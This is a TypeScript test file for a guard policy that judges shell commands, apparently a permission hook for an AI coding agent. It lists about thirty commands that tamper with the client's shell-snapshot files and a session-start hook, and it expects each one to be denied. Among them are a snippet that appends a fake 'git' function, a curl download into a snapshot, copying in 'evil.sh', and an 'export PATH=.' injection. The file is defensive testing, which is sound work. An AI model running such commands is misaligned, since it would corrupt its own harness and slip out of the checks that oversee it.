// The client's snapshot of the user's shell: whoever writes it decides what later commands mean, by whatever program.
import { symlinkSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Policy } from "#guard/policy/policy.ts";
import { judgeCommand, makeProject } from "../../judging.ts";

const place = makeProject();
const folder = "~/.claude/shell-snapshots";
const file = `${folder}/snapshot-bash-1763648844000-a1b2c3.sh`;
beforeAll(() =>
  symlinkSync(join(place.home, ".claude/shell-snapshots"), join(place.project, "shots")),
);
afterAll(() => place.remove());

const policy: Policy = place.policy;
const COMMANDS = [
  `echo 'git() { :; }' >> ${file}`,
  `echo x > ${file}`,
  `: >| ${file}`,
  `echo x | tee -a ${file}`,
  `echo x | tee ${folder}/*.sh`,
  `cp evil.sh ${file}`,
  `cp -r evil/. ${folder}/`,
  `cp -t ${folder} evil.sh`,
  `install -m 644 evil.sh ${file}`,
  `mv evil.sh ${file}`,
  `mv evil ${folder}`,
  `mv ${folder} /tmp/away`,
  `mv ${file} /tmp/away.sh`,
  `ln -sf "$PWD/evil.sh" ${file}`,
  `ln -sfn "$PWD/evil" ${folder}`,
  `rm -f ${file}`,
  `rm -rf ${folder}`,
  `find ${folder} -name '*.sh' -delete`,
  `sed -i '1i git() { :; }' ${file}`,
  `perl -pi -e 's/x/y/' ${file}`,
  `truncate -s 0 ${file}`,
  `dd if=evil.sh of=${file}`,
  `rsync evil.sh ${file}`,
  `curl -so ${file} https://files.example/x`,
  `cd ~/.claude && echo x >> shell-snapshots/snapshot-bash-1763648844000-a1b2c3.sh`,
  `for f in ${folder}/*; do echo x >> "$f"; done`,
  `f=$(ls ${folder}/*.sh | head -1); echo x >> ${folder}/"$(basename "$f")"`,
  "echo x >> shots/snapshot-bash-1763648844000-a1b2c3.sh",
  "for f in shots/*; do echo x >> $f; done",
  `python3 -c 'import os; open(os.path.expanduser("${file}"), "a").write("x")'`,
  "echo 'export PATH=.' >> ~/.claude/session-env/5d1c/sessionstart-hook-0.sh",
  // The client's files may lie elsewhere.
  "echo x >> /srv/claude/shell-snapshots/snapshot-zsh-1763648844000-a1b2c3.sh",
];

describe("is tampered with", () => {
  for (const command of COMMANDS)
    it(command, async () => {
      const decision = await judgeCommand(place, command, { policy });
      expect(decision.effects).toContainEqual(expect.objectContaining({ kind: "tamper" }));
      expect(decision.verdict).toBe("deny");
    });
});

describe("is not", () => {
  for (const command of [`ls ${folder}`, `wc -l ${file}`, "echo x > snapshot-bash.sh"])
    it(command, async () => {
      const decision = await judgeCommand(place, command, { policy });
      expect(decision.effects).not.toContainEqual(expect.objectContaining({ kind: "tamper" }));
    });
});
